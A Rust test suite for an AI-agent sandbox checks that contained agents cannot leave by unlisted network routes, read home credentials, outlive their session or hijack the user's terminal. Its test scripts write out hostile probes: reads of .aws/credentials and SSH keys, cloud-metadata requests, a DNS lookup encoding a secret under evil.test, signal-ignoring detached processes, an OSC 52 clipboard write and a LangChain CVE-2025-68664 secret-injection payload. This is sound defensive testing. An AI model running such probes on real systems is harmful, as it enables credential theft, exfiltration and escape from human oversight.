//! Agents in their sandbox, end to end: one road out, what is not listed is not there, nothing is left. Each promise has its
//! control: the same program with `--uncontained`.

use crate::house::{House, LONG, PASSPHRASE};
use crate::local::Local;
use marque_testkit::encode::{find_any, needles};
use marque_testkit::proc::{Child, Exit};
use marque_testkit::upstream::Echo;
use marque_testkit::{Options, Server, canary, http};
use serde_json::Value;
use std::net::{Ipv4Addr, TcpListener};
use std::path::PathBuf;
use std::process::Command;
use std::time::Instant;

struct World {
    house: House,
    echo: Server,
    origin: String,
    secret: String,
    work: PathBuf,
}

impl World {
    fn new() -> Self {
        let house = House::new();
        let secret = canary("api");
        let (echo, origin) = house.echo(&secret);
        let work = house.dir.path().join("work");
        std::fs::create_dir(&work).unwrap();
        Self { house, echo, origin, secret, work }
    }

    fn command(&self, more: &[&str], program: &[&str]) -> Command {
        let grant = format!("http GET on {}/**", self.origin);
        let args = [&["run", "--purpose", "read the items", "--env", "staging", "--grant", &grant], more, &["--"], program].concat();
        let mut command = self.house.contained(&args);
        command.current_dir(&self.work);
        command
    }

    fn run(&self, more: &[&str], script: &str) -> Exit {
        Child::run(&mut self.command(more, &["/bin/sh", "-c", script]), LONG).unwrap()
    }

    fn inside(&self, script: &str) -> Exit {
        self.run(&[], script)
    }

    fn outside(&self, script: &str) -> Exit {
        self.run(&["--uncontained"], script)
    }
}

/// Without everything that tells a client of a proxy or of certificates.
const UNAWARE: &str = "unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY SSL_CERT_FILE CURL_CA_BUNDLE REQUESTS_CA_BUNDLE";

#[test]
fn a_client_that_knows_of_no_proxy_uses_the_credential_all_the_same() {
    let world = World::new();
    let python = format!("import urllib.request; print(urllib.request.urlopen('{}/items').status)", world.origin);
    let script = format!("{UNAWARE}; curl -sS -o /dev/null -w '%{{http_code}} ' {}/items; python3 -c \"{python}\"; env", world.origin);
    let exit = world.inside(&script);
    assert!(exit.stdout.starts_with("200 200"), "{exit:?}");
    assert!(exit.stderr.contains("Contained   C: own network"), "{}", exit.stderr);
    assert_eq!(world.echo.log().count_saw(&world.secret), 2);
    for text in [&exit.stdout, &exit.stderr] {
        assert!(find_any(text.as_bytes(), &needles(world.secret.as_bytes())).is_none(), "{text}");
    }
    let control = world.outside(&script);
    assert!(control.stderr.contains("Could not resolve host"), "{control:?}");
    assert_eq!(world.echo.log().count_saw(&world.secret), 2);
}

#[test]
fn what_is_not_granted_is_refused_on_the_straight_road_too_and_recorded() {
    let world = World::new();
    let script = format!(
        "{UNAWARE}; curl -sS -o /dev/null -w '%{{http_code}} ' -X POST -d x {}/v1/a; curl -s https://other.test/; echo tls $?; \
         curl -sS -w ' %{{http_code}}' http://other.test/; curl -sS -w ' %{{http_code}}' http://169.254.169.254/latest/meta-data/",
        world.origin
    );
    let exit = world.inside(&script);
    assert!(exit.stdout.starts_with("403 tls 35"), "{exit:?}");
    assert_eq!(exit.stdout.matches(" 403").count(), 2, "{}", exit.stdout);
    assert_eq!(exit.stdout.matches("\"code\":\"MQ-4101\"").count(), 2, "{}", exit.stdout);
    assert_eq!(world.echo.log().count_saw(&world.secret), 0);
    assert!(exit.stderr.contains("169.254.169.254"), "the statement names it: {}", exit.stderr);
}

#[test]
fn no_address_port_or_protocol_leads_around_the_gateway() {
    let world = World::new();
    let bystander = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    bystander.set_nonblocking(true).unwrap();
    let port = bystander.local_addr().unwrap().port();
    let script = format!(
        r#"python3 - <<'E'
import socket
def attempt(kind, to, data=None):
    s = socket.socket(socket.AF_INET, kind); s.settimeout(5)
    try:
        s.connect(to)
        if data: s.send(data); s.recv(9)
        print('connected')
    except OSError as e:
        print(type(e).__name__)
attempt(socket.SOCK_STREAM, ('127.0.0.1', {port}))
attempt(socket.SOCK_STREAM, ('8.8.8.8', 4444))
attempt(socket.SOCK_DGRAM, ('8.8.8.8', 4500), b'x')
print(socket.gethostbyname('c2VjcmV0.evil.test'))
E"#
    );
    let exit = world.inside(&script);
    let lines: Vec<&str> = exit.stdout.lines().collect();
    assert_eq!(lines.get(..3), Some(&["ConnectionRefusedError"; 3][..]), "{exit:?}");
    assert!(lines.get(3).is_some_and(|address| address.starts_with("198.18.")), "{exit:?}");
    assert!(bystander.accept().is_err(), "nobody of the sandbox reaches the host's loopback");
    let control = world.outside(&format!("python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\""));
    assert!(control.status.success() && bystander.accept().is_ok(), "{control:?}");
}

#[test]
fn what_lies_in_the_home_and_what_the_authority_keeps_is_out_of_reach() {
    let world = World::new();
    let planted = canary("home");
    let home = world.house.dir.path();
    for path in [".aws/credentials", ".ssh/id_ed25519", "notes/plan.txt"] {
        std::fs::create_dir_all(home.join(path).parent().unwrap()).unwrap();
        std::fs::write(home.join(path), &planted).unwrap();
    }
    let look = format!("find {0} -type f 2>/dev/null | xargs cat 2>/dev/null; ls {1}; cat {1}/authority.log; true", home.display(), world.house.data().display());
    let exit = world.inside(&look);
    assert!(!exit.stdout.contains(&planted) && !exit.stdout.contains("authority.sock"), "{exit:?}");
    let control = world.outside(&look);
    assert!(control.stdout.contains(&planted) && control.stdout.contains("authority.sock"), "{control:?}");
}

#[test]
fn no_owner_verb_works_from_inside() {
    let world = World::new();
    let marque = env!("CARGO_BIN_EXE_marque");
    let verbs = ["session list", "credential list", "approval list", "status", "stop"];
    let script: String = verbs.iter().map(|verb| format!("{marque} --data-dir {} {verb}; echo code $?; ", world.house.data().display())).collect();
    let exit = world.run(&["--show", marque], &script);
    assert_eq!(exit.stdout.matches("code ").count(), verbs.len(), "{exit:?}");
    assert!(!exit.stdout.contains("code 0"), "{exit:?}");
    world.house.ok(&["status"]);
    // Outside the same binary and directory answer.
    assert!(world.house.ok(&["session", "list"]).status.success());
}

fn processes_with(marker: &str) -> usize {
    let lines = std::fs::read_dir("/proc").unwrap().flatten().filter_map(|entry| std::fs::read(entry.path().join("cmdline")).ok());
    // A shell's text ends with the marker; the launcher's own line has it in the middle of a script.
    lines.filter(|line| line.strip_suffix(b"\0").is_some_and(|line| line.ends_with(marker.as_bytes()) && line.starts_with(b"python3"))).count()
}

/// The control of what is said to be gone: it was there.
fn wait_for_processes(marker: &str, least: usize) {
    let deadline = Instant::now() + LONG;
    while processes_with(marker) < least {
        assert!(Instant::now() < deadline, "the agent's processes are not seen: {}", processes_with(marker));
    }
}

#[test]
fn nothing_of_the_agent_outlives_a_killed_launcher() {
    let world = World::new();
    let marker = canary("marker");
    let script = format!(
        "for i in 1 2 3; do (setsid python3 -c \"import signal; [signal.signal(s, signal.SIG_IGN) for s in (1, 2, 15)]; print('up', flush=True); signal.pause()\" {marker} &) ; done; \
         exec python3 -c 'import signal; signal.pause()' {marker}"
    );
    let run = Child::spawn(&mut world.command(&[], &["/bin/sh", "-c", &script])).unwrap();
    run.wait_for(LONG, |out| (out.matches("up").count() == 3).then_some(())).unwrap();
    assert!(processes_with(&marker) >= 4);
    rustix::process::kill_process(rustix::process::Pid::from_raw(run.pid()).unwrap(), rustix::process::Signal::KILL).unwrap();
    let deadline = Instant::now() + LONG;
    while processes_with(&marker) > 0 || world.house.ok(&["--json", "session", "list"]).stdout.contains("\"s-") {
        assert!(Instant::now() < deadline, "something is left: {}", processes_with(&marker));
    }
}

#[test]
fn a_closed_session_ends_all_of_its_agent() {
    let world = World::new();
    let marker = canary("marker");
    let script = format!("(setsid python3 -c 'import signal; signal.pause()' {marker} &); echo up; exec python3 -c 'import signal; signal.pause()' {marker}");
    let mut run = Child::spawn(&mut world.command(&[], &["/bin/sh", "-c", &script])).unwrap();
    run.wait_for_line(LONG, |line| line == "up").unwrap();
    wait_for_processes(&marker, 2);
    let list: Value = serde_json::from_str(&world.house.ok(&["--json", "session", "list"]).stdout).unwrap();
    world.house.ok(&["session", "close", list["items"][0]["session"].as_str().unwrap()]);
    assert_eq!(run.wait(LONG).unwrap().status.code(), Some(137));
    assert_eq!(processes_with(&marker), 0);
}

#[test]
fn a_closed_session_ends_its_agent_also_when_nobody_reads_what_the_launcher_says() {
    let world = World::new();
    let marker = canary("marker");
    // It fills the pipe that the launcher's own lines go to.
    let script = format!("(yes 1>&2 &); exec python3 -c \"import signal; open('up', 'w').close(); signal.pause()\" {marker}");
    let mut command = world.command(&[], &["/bin/sh", "-c", &script]);
    let (reader, writer) = std::io::pipe().unwrap();
    command.stdin(std::process::Stdio::null()).stdout(std::process::Stdio::null()).stderr(writer);
    let mut run = command.spawn().unwrap();
    drop(command);
    let mut banner = Vec::new();
    let mut piece = [0; 4096];
    // The banner has to come out before the agent runs.
    while !world.work.join("up").exists() {
        let len = std::io::Read::read(&mut &reader, &mut piece).unwrap();
        banner.extend_from_slice(&piece[..len]);
    }
    wait_for_processes(&marker, 1);
    let list: Value = serde_json::from_str(&world.house.ok(&["--json", "session", "list"]).stdout).unwrap();
    world.house.ok(&["session", "close", list["items"][0]["session"].as_str().unwrap()]);
    let deadline = Instant::now() + LONG;
    while processes_with(&marker) > 0 {
        assert!(Instant::now() < deadline, "the agent goes on");
    }
    drop(reader);
    run.wait().unwrap();
}

#[test]
fn what_the_kernel_keeps_for_the_user_and_rights_that_stay_are_out_of_reach() {
    let world = World::new();
    let script = r#"
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def call(*args):
    return 'ok' if libc.syscall(*args) >= 0 else os.strerror(ctypes.get_errno())
print('key', call(248, b'user', b'probe', b'x', 1, -2))
print('keyring', call(250, 0, -4, 0))
try:
    socket.socket(40, socket.SOCK_STREAM)
    print('vsock ok')
except OSError as e:
    print('vsock', e.strerror)
open('tool', 'w').close()
try:
    os.chmod('tool', 0o4755)
    print('setuid ok')
except OSError as e:
    print('setuid', e.strerror)
"#;
    std::fs::write(world.work.join("probe.py"), script).unwrap();
    let exit = world.inside("/usr/bin/python3 probe.py");
    let refused = "Operation not permitted";
    for line in [format!("key {refused}"), format!("keyring {refused}"), format!("setuid {refused}"), "vsock Address family not supported".to_owned()] {
        assert!(exit.stdout.contains(&line), "{line}: {exit:?}");
    }
    let control = world.outside("/usr/bin/python3 probe.py");
    assert!(control.stdout.contains("keyring ok") && control.stdout.contains("setuid ok"), "{control:?}");
}

#[test]
fn a_home_is_no_workspace() {
    let world = World::new();
    let mut command = world.command(&[], &["true"]);
    command.current_dir(world.house.dir.path());
    let exit = Child::run(&mut command, LONG).unwrap();
    assert_eq!(exit.status.code(), Some(125), "{exit:?}");
    assert!(exit.stderr.contains("has your home in it") && exit.stderr.contains("help: change to a project"), "{}", exit.stderr);
}

#[test]
fn an_ordinary_user_s_agent_is_contained_too() {
    use std::os::unix::fs::PermissionsExt;
    use std::os::unix::process::CommandExt;
    if rustix::process::geteuid().is_root() {
        // What the tests are built in may be closed to others, as root's home is.
        let staged = tempfile::tempdir().unwrap();
        for (from, to) in [(std::env::current_exe().unwrap(), "it"), (env!("CARGO_BIN_EXE_marque").into(), "marque")] {
            let to = staged.path().join(to);
            std::fs::hard_link(&from, &to).or_else(|_| std::fs::copy(&from, &to).map(drop)).unwrap();
        }
        std::fs::set_permissions(staged.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        let mut again = Command::new(staged.path().join("it"));
        again.args(["--exact", "contained::an_ordinary_user_s_agent_is_contained_too", "--nocapture"]).uid(54_321).gid(54_321);
        // A temporary directory of his own; everything else that the test needs is anybody's to read.
        again.env("TMPDIR", "/tmp").env_remove("CARGO_TARGET_TMPDIR").env(crate::house::MARQUE, staged.path().join("marque")).current_dir("/");
        let exit = Child::run(&mut again, LONG).unwrap();
        assert!(exit.status.success() && exit.stdout.contains("1 passed"), "{exit:?}");
        return;
    }
    let world = World::new();
    let exit = world.inside(&format!("{UNAWARE}; curl -sS -o /dev/null -w '%{{http_code}} ' {}/items; cat {}/passphrase; id -u", world.origin, world.house.dir.path().display()));
    assert!(exit.stdout.starts_with("200 ") && exit.stderr.contains("Contained   C: own network"), "{exit:?}");
    assert!(!exit.stdout.contains(PASSPHRASE), "{exit:?}");
    assert_eq!(world.echo.log().count_saw(&world.secret), 1);
}

#[test]
fn a_published_port_reaches_the_agent_s_server() {
    let world = World::new();
    let nonce = canary("page");
    std::fs::write(world.work.join("page.txt"), &nonce).unwrap();
    let script = "exec python3 -c \"
import http.server as h
server = h.HTTPServer(('127.0.0.1', 3000), h.SimpleHTTPRequestHandler)
print('up', flush=True)
server.serve_forever()\"";
    let run = Child::spawn(&mut world.command(&["--publish", "3000:0"], &["/bin/sh", "-c", script])).unwrap();
    run.wait_for_line(LONG, |line| line == "up").unwrap();
    let at = run.stderr().lines().find_map(|line| line.strip_prefix("Published   port 3000 of the agent at ").map(str::to_owned)).unwrap();
    let answer = http::get(&http::Route::default(), &format!("{at}/page.txt"), &[]).unwrap();
    assert_eq!(answer.text(), nonce);
    run.kill();
}

#[test]
fn a_copied_workspace_leaves_the_original_alone_and_lists_what_changed() {
    let world = World::new();
    std::fs::write(world.work.join("kept.txt"), "before").unwrap();
    std::fs::write(world.work.join("changed.txt"), "before").unwrap();
    let exit = world.run(&["--workspace", "copy"], "echo after > changed.txt; echo new > new.txt; mkdir -p .git/hooks && echo x > .git/hooks/pre-commit; pwd");
    assert!(exit.status.success(), "{exit:?}");
    assert_eq!(exit.stdout.trim(), world.work.canonicalize().unwrap().to_str().unwrap(), "the agent sees its usual path");
    assert_eq!(std::fs::read_to_string(world.work.join("changed.txt")).unwrap(), "before");
    assert!(!world.work.join("new.txt").exists());
    for line in ["changed  changed.txt", "added    new.txt", "added    .git/hooks/pre-commit"] {
        assert!(exit.stderr.contains(line), "{line}: {}", exit.stderr);
    }
    assert!(!exit.stderr.contains("kept.txt"));
    let copy = exit.stderr.lines().find_map(|line| line.split_once("in the copy at ")).unwrap().1;
    assert_eq!(std::fs::read_to_string(PathBuf::from(copy).join("new.txt")).unwrap(), "new\n");
}

#[test]
fn files_that_run_on_the_host_are_named_at_the_end_and_hooks_cannot_be_written() {
    let world = World::new();
    std::fs::create_dir_all(world.work.join(".git/hooks")).unwrap();
    let exit = world.inside("printf 'all:\\n' > Makefile; echo x > .git/hooks/pre-commit; echo x > .envrc; true");
    assert!(exit.stderr.contains("added    Makefile"), "{}", exit.stderr);
    assert!(!world.work.join(".git/hooks/pre-commit").exists());
    assert!(!world.work.join(".envrc").exists(), "what was laid there goes with the sandbox");
}

#[test]
fn codes_and_signals_of_a_contained_agent_are_the_run_s() {
    let world = World::new();
    assert_eq!(world.inside("exit 41").status.code(), Some(41));
    assert_eq!(world.inside("kill -TERM $$").status.code(), Some(128 + 15));
    let run = |program: &[&str]| Child::run(&mut world.command(&[], program), LONG).unwrap().status.code();
    assert_eq!(run(&["/no/such/program"]), Some(127));
    assert_eq!(run(&["no-such-program"]), Some(127));
    assert_eq!(run(&["/etc/passwd"]), Some(127), "not a program");
    let mut asked = Child::spawn(&mut world.command(&[], &["/usr/bin/python3", "-c", "import signal; print('up', flush=True); signal.pause()"])).unwrap();
    asked.wait_for_line(LONG, |line| line == "up").unwrap();
    rustix::process::kill_process(rustix::process::Pid::from_raw(asked.pid()).unwrap(), rustix::process::Signal::TERM).unwrap();
    assert_eq!(asked.wait(LONG).unwrap().status.code(), Some(128 + 15));
}

/// Runs a command on a terminal of its own; what is written to this child is typed there.
fn on_a_terminal(command: &Command) -> Command {
    let mut python = Command::new("/usr/bin/python3");
    python.args(["-c", "import pty, sys; sys.exit(pty.spawn(sys.argv[1:]) >> 8)"]).arg(command.get_program()).args(command.get_args());
    python.env_clear().current_dir(command.get_current_dir().unwrap());
    command.get_envs().filter_map(|(name, value)| Some((name, value?))).for_each(|(name, value)| {
        python.env(name, value);
    });
    python
}

#[test]
fn an_agent_s_terminal_is_its_own_and_says_nothing_to_the_user_s_clipboard() {
    let world = World::new();
    let script = r#"
import os, signal, sys
# Waited for, rather than handled: a signal between the last look for one and the system call that waits would be seen by neither.
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT})
sys.stdout.write('\x1b]52;c;Y2FuYXJ5\x07\x1b]0;title\x07\x1b[1mbold\x1b[0m\n')
print("terminal", os.isatty(os.open('/dev/tty', os.O_RDWR)), os.tcgetpgrp(0) == os.getpgrp())
print('up', flush=True)
signal.sigwait({signal.SIGINT})
print('interrupted')
"#;
    std::fs::write(world.work.join("agent.py"), script).unwrap();
    let run = |more: &[&str]| {
        let mut child = Child::spawn(&mut on_a_terminal(&world.command(more, &["/usr/bin/python3", "agent.py"]))).unwrap();
        child.wait_for_line(LONG, |line| line.trim() == "up").unwrap();
        child.write(b"\x03").unwrap();
        child.wait(LONG).unwrap()
    };
    let exit = run(&[]);
    assert_eq!(exit.status.code(), Some(0), "{exit:?}");
    for wanted in ["\u{1b}[1mbold", " True True", "interrupted", "Session ", "Closed "] {
        assert!(exit.stdout.contains(wanted), "{wanted}: {exit:?}");
    }
    assert!(!exit.stdout.contains("]52;") && !exit.stdout.contains("]0;"), "{exit:?}");
    let control = run(&["--uncontained"]);
    assert!(control.stdout.contains("]52;c;Y2FuYXJ5"), "{control:?}");
    // Also where only its errors are left on the user's terminal.
    let script = "import os, sys\nos.write(2, b'\\x1b]52;c;Y2FuYXJ5\\x07shown\\n')\nprint(os.isatty(2), file=open('tty', 'w'))\n";
    std::fs::write(world.work.join("errors.py"), script).unwrap();
    let command = world.command(&[], &["/usr/bin/python3", "errors.py"]);
    let mut redirected = Command::new("/bin/sh");
    redirected.args(["-c", "exec \"$@\" </dev/null >out", "sh"]).arg(command.get_program()).args(command.get_args()).env_clear();
    redirected.current_dir(&world.work).envs(command.get_envs().filter_map(|(name, value)| Some((name, value?))));
    let exit = Child::run(&mut on_a_terminal(&redirected), LONG).unwrap();
    assert!(exit.stdout.contains("shown") && !exit.stdout.contains("]52;"), "{exit:?}");
    assert_eq!(std::fs::read_to_string(world.work.join("tty")).unwrap(), "True\n");
}

#[test]
fn a_requirement_that_is_not_met_starts_nothing() {
    let world = World::new();
    assert!(world.run(&["--require", "C"], "true").status.success());
    for (more, help) in [(&["--require", "B"][..], "leave out `--require`"), (&["--require", "C", "--uncontained"], "leave out `--uncontained`")] {
        let exit = world.run(more, "echo started");
        assert_eq!((exit.status.code(), exit.stdout.as_str()), (Some(125), ""), "{exit:?}");
        assert!(exit.stderr.contains(help), "{}", exit.stderr);
    }
}

#[test]
fn sockets_are_taken_once_and_from_the_session_s_own_launcher() {
    let world = World::new();
    let local = Local::of(&world.house);
    let listener = || TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let open = |inside: bool| {
        let grants = serde_json::json!([{"type": "http", "environment": "staging", "locations": [world.origin], "actions": ["GET"], "paths": ["/**"]}]);
        let body = serde_json::json!({
            "passphrase": PASSPHRASE, "purpose": "read the items", "refs": [], "agent": "a", "environment": "staging", "mode": "enforce", "grants": grants,
            "ttl_s": 600, "grade": "C", "accept": [], "egress": [], "task": null, "pins": [], "inside": inside,
        });
        local.call("POST", "/v1/sessions", &body).unwrap()
    };
    let (with, without) = (open(true), open(false));
    let ports: Vec<u64> = with["ports"].as_array().unwrap().iter().map(|p| p.as_u64().unwrap()).collect();
    assert!([80, 443, 880, u64::from(world.echo.port())].iter().all(|port| ports.contains(port)), "{ports:?}");
    assert_eq!(without["ports"], serde_json::json!([]));
    let hand = |session: &Value, secret: &str, socket: &TcpListener| {
        local.hand_over(session["session"].as_str().unwrap(), secret, &[socket]).unwrap()
    };
    let secret = |session: &Value| session["proxy_secret"].as_str().unwrap().to_owned();
    assert!(hand(&with, "guessed", &listener()).contains("not brought by"));
    assert!(hand(&without, &secret(&without), &listener()).contains("has no sandbox"));
    let connected = {
        let listener = listener();
        std::net::TcpStream::connect(listener.local_addr().unwrap()).unwrap()
    };
    assert!(local.hand_over(with["session"].as_str().unwrap(), &secret(&with), &[&connected]).unwrap().contains("not taken"), "it does not listen");
    assert_eq!(hand(&with, &secret(&with), &listener()), "");
    assert!(hand(&with, &secret(&with), &listener()).contains("brought already"));
    assert!(local.hand_over("s-none", "x", &[] as &[&TcpListener]).unwrap().contains("MQ-"));
}

/// What came with data from outside is resolved as a secret of the environment (CVE-2025-68664), once for every variable.
const INJECTED: &str = r#"
import json, os, warnings
warnings.simplefilter('ignore')
from langchain_core.load import dumps, loads
from langchain_core.messages import AIMessage
told = {name: {'lc': 1, 'type': 'secret', 'id': [name]} for name in os.environ}
print(json.dumps(loads(dumps(AIMessage(content='x', additional_kwargs=told))).additional_kwargs))
"#;

#[test]
fn an_injected_secret_reads_a_placeholder_whose_use_elsewhere_is_refused_and_recorded() {
    let house = House::new();
    let (api, token) = crate::tasks::github(&house);
    let elsewhere = Echo::start(Options::tls(house.ca.issue(&["elsewhere.test"]).unwrap().server_config().unwrap())).unwrap();
    let tools = PathBuf::from(std::env::var_os("MARQUE_TOOLS").unwrap());
    let python = tools.join("langchain/bin/python");
    let work = house.dir.path().join("work");
    std::fs::create_dir(&work).unwrap();
    std::fs::write(work.join("injected.py"), INJECTED).unwrap();
    let planted = [("GH_TOKEN", canary("gh")), ("DATABASE_PASSWORD", canary("db")), ("INNOCENT", canary("innocent"))];
    let run = |mut command: Command| {
        command.current_dir(&work).envs(planted.iter().map(|(name, value)| (name, value)));
        Child::run(&mut command, LONG).unwrap()
    };
    // The control: outside, every one of them.
    let mut control = Command::new(&python);
    control.arg("injected.py").env_clear();
    let control = run(control);
    assert!(planted.iter().all(|(_, value)| control.stdout.contains(value.as_str())), "{control:?}");

    let other = format!("https://elsewhere.test:{}", elsewhere.port());
    let script = format!(
        "set -e; {python} injected.py | tee got.json; T=$({python} -c 'import json; print(json.load(open(\"got.json\"))[\"GH_TOKEN\"])'); \
         for u in https://api.github.test:{}/repos/acme/web/pulls {other}/v1/x; do curl -sS -w ' %{{http_code}} ' -H \"Authorization: Bearer $T\" $u; done",
        api.port(),
        python = python.display(),
    );
    let exit = run(house.contained(&[
        "run", "--purpose", "read the pull requests", "--env", "staging", "--grant", "github repo.read on acme/*", "--show", tools.to_str().unwrap(),
        "--egress", &other, "--pin", &format!("elsewhere.test:{}=127.0.0.1", elsewhere.port()), "--", "/bin/sh", "-c", &script,
    ]));
    assert!(exit.status.success(), "{exit:?}");
    assert!(planted.iter().all(|(_, value)| !exit.stdout.contains(value.as_str())), "{exit:?}");
    assert!(!exit.stdout.contains(&token), "{exit:?}");
    assert!(exit.stdout.contains(" 200 ") && exit.stdout.contains(" 403 "), "it works at its host and is refused elsewhere: {exit:?}");
    assert_eq!((api.log().count_saw(&token), elsewhere.log().records().len()), (1, 0));
    assert!(exit.stderr.contains("Refused     elsewhere.test"), "{}", exit.stderr);
}
